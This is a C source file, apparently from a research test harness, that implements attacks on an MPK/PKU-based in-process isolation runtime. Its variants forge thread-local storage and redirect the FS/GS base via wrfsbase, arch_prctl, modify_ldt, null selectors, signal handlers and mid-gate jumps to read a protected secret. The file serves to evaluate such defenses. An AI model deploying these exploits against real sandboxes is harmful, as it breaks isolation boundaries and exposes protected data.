/* D7: the thread pointer bent to memory of the attacker's. Whatever the host keeps in
 * thread-local storage, the value that its gate closes the domain with among it, is
 * then the attacker's.
 *
 * arch-prctl-true-word: the bent storage says who the thread really is.
 *
 * as-host-thread: what knows a thread by its FS base alone takes it for another one. In a
 * signal handler, where PKRU says nothing about who was interrupted, the fault
 * handler has nothing else to go by. (Undefended, nobody asks: the key is closed there.)
 *
 * null-selector: no system call and no special instruction; the FS base becomes 0, which
 * no thread has, and then the domain is touched. (Undefended, the key is closed all the same.)
 * null-selector-gate: the same, and then a jump into the middle of a gate, as in A1: the
 * gate asks whose rights these are, and a record that is nobody's has no thread either.
 *
 * wrgsbase: what GS points to is nothing of ours, nor of the C library's.
 *
 * Source: [PKU Pitfalls], arch_prctl(2), modify_ldt(2), [SDM 2 WRFSBASE].
 */
#include <asm/ldt.h>
#include <asm/prctl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "attack.h"
#include "gatejump.h"
#include "machinecode.h"
#include "mpk.h"
#include "naive.h"
#include "record.h"

#define BELOW 16384  /* thread-local storage lies below the thread pointer */
#define ABOVE 4096   /* libc's record of the thread above */
#define HASHED_BYTES 64
#define LDT_SELECTOR 7 /* entry 0, LDT, ring 3 */
#define OPENED_PROT (PROT_READ | PROT_WRITE)

static uintptr_t fs_base(void) {
    uintptr_t base;
    __asm__ volatile("rdfsbase %0" : "=r"(base));
    return base;
}

/* At the end of a gate the runtime guesses its record by thread-local storage, compares it with
 * the word that %fs:0 is, and asks the register only where they differ (gate.c). */
enum word { OWN_ADDRESS, TRUE_THREAD };

/* A copy of this thread's storage below 2 GiB, where the gate's closed is opened. */
static char *forged(enum word word) {
    const size_t bytes = BELOW + HASHED_BYTES + ABOVE;
    char *memory = mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (memory == MAP_FAILED) return NULL;
    uintptr_t here = fs_base();
    char *there = memory + BELOW;
    /* One address in 4096 would have the guess right by chance (record.h). */
    if (_mpk_record_first((uintptr_t)there) == _mpk_record_first(here)) there += HASHED_BYTES;
    const uintptr_t page = here & ~(uintptr_t)(PAGE_BYTES - 1);
    size_t below = here - page; /* what is surely mapped */
    memcpy(there - below, (char *)here - below, below);
    memcpy(there, (char *)here, page + PAGE_BYTES - here);
    if (word == OWN_ADDRESS) *(char **)there = there;
    *(char **)(there + 2 * sizeof(void *)) = there;
    if (target.undefended) {
        uint32_t open = target.pku ? 0 : OPENED_PROT;
        memcpy(there + ((uintptr_t)naive_closed() - here), &open, sizeof open);
    }
    return there;
}

/* The instruction lies in code of its own, mapped before the policy as a library's is:
 * the other variants' program has none. */
static const unsigned char wrfsbase_rdi[] = {0xf3, 0x48, 0x0f, 0xae, 0xd7, 0xc3};
static const unsigned char wrgsbase_rdi[] = {0xf3, 0x48, 0x0f, 0xae, 0xdf, 0xc3};
static void *code;

static void map_wrfsbase(void) { code = machinecode_map(wrfsbase_rdi, sizeof wrfsbase_rdi); }
static void map_wrgsbase(void) { code = machinecode_map(wrgsbase_rdi, sizeof wrgsbase_rdi); }

static int bent; /* a refused attack has no second part */

static void read_if_bent(void) {
    if (bent) attack_read();
}

static void wrfsbase(void) {
    char *storage = forged(OWN_ADDRESS);
    TRY("mmap", storage ? 0 : -1);
    ((void (*)(char *))(uintptr_t)code)(storage);
    bent = 1;
}

static void wrgsbase(void) {
    char *storage = forged(OWN_ADDRESS);
    TRY("mmap", storage ? 0 : -1);
    ((void (*)(char *))(uintptr_t)code)(storage);
    bent = 1;
}

static void by_arch_prctl_with(enum word word) {
    char *storage = forged(word);
    TRY("mmap", storage ? 0 : -1);
    TRY("arch_prctl", syscall(SYS_arch_prctl, ARCH_SET_FS, storage));
    bent = 1;
}

static void by_arch_prctl(void) { by_arch_prctl_with(OWN_ADDRESS); }
static void with_true_word(void) { by_arch_prctl_with(TRUE_THREAD); }

static void by_modify_ldt(void) {
    char *storage = forged(OWN_ADDRESS);
    TRY("mmap", storage ? 0 : -1);
    struct user_desc entry = {.base_addr = (unsigned)(uintptr_t)storage, .limit = 0xfffff, .seg_32bit = 1,
                              .limit_in_pages = 1, .useable = 1};
    TRY("modify_ldt", syscall(SYS_modify_ldt, 1, &entry, sizeof entry) ? -1 : 0);
    __asm__ volatile("mov %0, %%fs" : : "r"(LDT_SELECTOR) : "memory");
    bent = 1;
}

static volatile uintptr_t host_thread;

/* A thread of the host's with a record of its own, which lives on. */
static void *be_host(void *unused) {
    int token;
    while (!target.secret) sched_yield();
    if (!target.undefended) {
        mpk_gate_enter(&token, "nothing");
        mpk_gate_exit(&token);
    }
    host_thread = fs_base();
    for (;;) pause();
    return unused;
}

static void make_host_thread(void) {
    pthread_t thread;
    if (pthread_create(&thread, NULL, be_host, NULL)) return;
    while (!host_thread) sched_yield();
}

/* Raw calls: nothing of libc's may run meanwhile. */
static long set_fs(uintptr_t base) {
    long result = SYS_arch_prctl;
    __asm__ volatile("syscall" : "+a"(result) : "D"(ARCH_SET_FS), "S"(base) : "rcx", "r11", "memory");
    return result;
}

static void pose(int number) {
    (void)number;
    uintptr_t own = fs_base();
    long refused = set_fs(host_thread);
    uintptr_t word = refused ? 0 : *(volatile uintptr_t *)target.secret;
    (void)set_fs(own);
    if (refused) attack_refused("arch_prctl", (int)-refused);
    else attack_hand_in(&word, sizeof word);
}

static void as_host_thread(void) {
    TRY("signal", signal(SIGUSR1, pose) == SIG_ERR ? -1 : 0);
    TRY("raise", raise(SIGUSR1) ? -1 : 0);
}

/* Nothing that needs thread-local storage may run until the thread pointer is back. Where
 * the call for that is refused, the word is handed in all the same. */
static void null_selector(void) {
    uintptr_t own = fs_base(), word;
    __asm__ volatile("mov %[null], %%fs\n\tmovq (%[secret]), %[word]"
                     : [word] "=&r"(word)
                     : [null] "r"(0), [secret] "r"(target.secret)
                     : "memory");
    attack_hand_in(&word, sizeof word);
    if (set_fs(own)) __asm__ volatile("syscall" : : "a"(SYS_exit_group), "D"(0) : "rcx", "r11", "memory");
}

static uintptr_t own_fs, word_behind;

static void __attribute__((force_align_arg_pointer)) behind_the_gate(void) {
    __asm__ volatile("movq (%1), %0" : "=r"(word_behind) : "r"(target.secret) : "memory");
    attack_hand_in(&word_behind, sizeof word_behind);
    set_fs(own_fs);
    __asm__ volatile("syscall" : : "a"(SYS_exit_group), "D"(0) : "rcx", "r11", "memory");
    __builtin_unreachable();
}

static void null_selector_gate(void) {
    own_fs = fs_base();
    gatejump(GATEJUMP_MATCHED, GATEJUMP_AS_NOBODY, behind_the_gate);
}

const struct attack attacks[] = {
    {.variant = "wrfsbase", .prepare = map_wrfsbase, .attack = wrfsbase, .again = read_if_bent},
    {.variant = "wrgsbase", .prepare = map_wrgsbase, .attack = wrgsbase, .again = read_if_bent, .flags = ATTACK_CONTROL},
    {.variant = "arch-prctl", .attack = by_arch_prctl, .again = read_if_bent},
    {.variant = "arch-prctl-true-word", .attack = with_true_word, .again = read_if_bent},
    {.variant = "modify-ldt", .attack = by_modify_ldt, .again = read_if_bent},
    {.variant = "as-host-thread", .while_open = make_host_thread, .attack = as_host_thread, .flags = ATTACK_CONTROL},
    {.variant = "null-selector", .attack = null_selector, .flags = ATTACK_CONTROL},
    {.variant = "null-selector-gate", .attack = null_selector_gate},
    {0},
};
